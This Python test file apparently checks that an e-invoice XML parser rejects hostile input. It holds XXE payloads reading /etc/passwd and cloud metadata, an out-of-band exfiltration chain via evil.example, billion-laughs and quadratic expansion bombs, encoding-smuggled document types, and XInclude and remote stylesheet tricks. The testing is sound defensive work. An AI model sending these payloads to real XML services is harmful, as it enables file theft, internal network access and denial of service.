"""XML made against its parser: document types, entities, encodings, depth, numbers."""

from tests import make
from tests.shelter.hostile.made import READ, hostile

DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>'


def invoice(*, before: str = "", inside: str = "", declared: str = DECLARATION, root: str = "") -> str:
    """A good e-invoice with something before its root, in its root's tag, or as its first element."""
    text = make.ubl(number="H-1").decode()
    _, _, text = text.partition("?>")
    head, rest = text.split(">", 1)
    return f"{declared}{before}{head}{root}>{inside}{rest}"


def with_doctype(inside: str, used: str = "") -> str:
    return invoice(before=f"<!DOCTYPE Invoice {inside}>", inside=f"<cbc:Note>{used}</cbc:Note>")


@hostile("unsafe_xml")
def entity_of_a_local_file() -> bytes:
    return with_doctype('[<!ENTITY x SYSTEM "file:///etc/passwd">]', "&x;").encode()


@hostile("unsafe_xml")
def entity_from_the_network() -> bytes:
    return with_doctype('[<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]', "&x;").encode()


@hostile("unsafe_xml")
def parameter_entity_that_sends_a_file_out() -> bytes:
    inside = '[<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % d SYSTEM "http://evil.example/d.dtd">%d;]'
    return with_doctype(inside).encode()


@hostile("unsafe_xml")
def document_type_elsewhere() -> bytes:
    return with_doctype('SYSTEM "http://evil.example/invoice.dtd"').encode()


@hostile("unsafe_xml")
def document_type_in_utf_16() -> bytes:
    declared = DECLARATION.replace("UTF-8", "UTF-16")
    return invoice(declared=declared, before='<!DOCTYPE a [<!ENTITY x "y">]>').encode("utf-16")


@hostile("unsafe_xml")
def document_type_in_utf_16_without_its_mark() -> bytes:
    declared = DECLARATION.replace("UTF-8", "UTF-16")
    return invoice(declared=declared, before='<!DOCTYPE a [<!ENTITY x "y">]>').encode("utf-16-be")


@hostile("encoding_not_allowed")
def document_type_in_utf_7() -> bytes:
    hidden = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'.encode("utf-7").decode().replace("<", "+ADw-")
    return f'<?xml version="1.0" encoding="UTF-7"?>{hidden}<Invoice/>'.encode()


@hostile("not_an_invoice")
def document_type_in_utf_32() -> bytes:
    return invoice(declared=DECLARATION.replace("UTF-8", "UTF-32"), before="<!DOCTYPE a>").encode("utf-32")


@hostile("encoding_not_allowed")
def document_type_in_ebcdic() -> bytes:
    return b'<?xml version="1.0" encoding="cp037"?>' + "<!DOCTYPE a><a/>".encode("cp037")


@hostile("unsafe_xml")
def billion_laughs() -> bytes:
    steps = "".join(f"<!ENTITY e{n} '{f'&e{n - 1};' * 10}'>" for n in range(1, 12))
    return with_doctype(f"[<!ENTITY e0 'ha'>{steps}]", "&e11;").encode()


@hostile("unsafe_xml")
def billion_laughs_in_an_attribute() -> bytes:
    steps = "".join(f"<!ENTITY e{n} '{f'&e{n - 1};' * 10}'>" for n in range(1, 12))
    return f"{DECLARATION}<!DOCTYPE a [<!ENTITY e0 'ha'>{steps}]><a b='&e11;'/>".encode()


@hostile("unsafe_xml")
def quadratic_blow_up() -> bytes:
    return with_doctype(f"[<!ENTITY x '{'x' * 200_000}'>]", "&x;" * 100_000).encode()


@hostile("unsafe_xml")
def entity_that_holds_itself() -> bytes:
    return with_doctype("[<!ENTITY x '&y;'><!ENTITY y '&x;'>]", "&x;").encode()


@hostile("unsafe_xml")
def attribute_by_default_from_a_document_type() -> bytes:
    return with_doctype("[<!ATTLIST Invoice onload CDATA 'steal()'>]").encode()


@hostile("broken_xml")
def depth_of_200_000() -> bytes:
    return invoice(inside="<a>" * 200_000).encode()


@hostile(READ)
def depth_that_the_parser_bears() -> bytes:
    return invoice(inside="<cbc:Note>" * 2_000 + "</cbc:Note>" * 2_000).encode()


@hostile("too_large")
def million_attributes() -> bytes:
    return invoice(root="".join(f' a{n}=""' for n in range(1_000_000))).encode()


@hostile("too_large")
def attributes_just_below_the_limit() -> bytes:
    return ("<a" + "".join(f' attribute-{n}="a value that is not short"' for n in range(480_000)) + "/>").encode()


@hostile("too_large")
def two_million_elements() -> bytes:
    return invoice(inside="<a/>" * 2_000_000).encode()


@hostile("too_large")
def elements_just_below_the_limit() -> bytes:
    return invoice(inside="<a/>" * 990_000).encode()


@hostile("too_large")
def elements_with_text_between() -> bytes:
    return f"<a>{'<b/>x' * 990_000}</a>".encode()


@hostile("too_large")
def half_a_million_namespaces() -> bytes:
    return invoice(root="".join(f' xmlns:n{n}="u{n}"' for n in range(480_000))).encode()


@hostile("too_large")
def namespace_that_multiplies_when_written_out() -> bytes:
    """Canonical XML names the space of each child anew: 1 MB of name, 100,000 children."""
    return invoice(root=f' xmlns:n="{"u" * 1_000_000}"', inside="<n:a/>" * 100_000).encode()


@hostile(READ)
def elements_as_many_as_may_be() -> bytes:
    return invoice(inside="<a/>" * 399_000).encode()


@hostile("too_large")
def million_names() -> bytes:
    return f"<a>{''.join(f'<b{n}/>' for n in range(2_000_000))}</a>".encode()


@hostile("too_large")
def text_of_20_mb() -> bytes:
    return invoice(inside=f"<cbc:Note>{'x' * 20_000_000}</cbc:Note>").encode()


@hostile("too_large")
def comment_of_20_mb() -> bytes:
    return invoice(inside=f"<!--{'x' * 20_000_000}-->").encode()


@hostile("too_large")
def attribute_of_20_mb() -> bytes:
    return f'<a b="{"x" * 20_000_000}"/>'.encode()


@hostile(READ)
def character_data_that_looks_like_a_document_type() -> bytes:
    return invoice(inside="<cbc:Note><![CDATA[<!DOCTYPE a [<!ENTITY x 'y'>]><script>]]></cbc:Note>").encode()


@hostile("broken_xml")
def character_data_that_never_ends() -> bytes:
    return invoice(inside="<cbc:Note><![CDATA[" + "]]" * 1_000_000).encode()


@hostile("too_large")
def million_pieces_of_character_data() -> bytes:
    return invoice(inside=f"<cbc:Note>{'<![CDATA[x]]>' * 1_100_000}</cbc:Note>").encode()


@hostile(READ)
def style_sheet_by_instruction() -> bytes:
    return invoice(before='<?xml-stylesheet type="text/xsl" href="http://evil.example/steal.xsl"?>').encode()


@hostile(READ)
def inclusion_of_a_local_file() -> bytes:
    include = '<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    return invoice(inside=f"<cbc:Note>{include}</cbc:Note>").encode()


@hostile(READ)
def schema_from_the_network() -> bytes:
    root = ' xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:schemaLocation="urn:x http://evil.example/x.xsd"'
    return invoice(root=root).encode()


@hostile("broken_xml")
def utf_8_cut_in_a_character() -> bytes:
    return invoice(inside="<cbc:Note>Liège</cbc:Note>").encode().replace("è".encode(), b"\xc3")


@hostile("broken_xml")
def nul_by_reference() -> bytes:
    return invoice(inside="<cbc:Note>&#0;</cbc:Note>").encode()


@hostile("broken_xml")
def two_roots() -> bytes:
    return invoice().encode() * 2


@hostile("broken_xml")
def cut_short() -> bytes:
    return invoice().encode()[:-30]
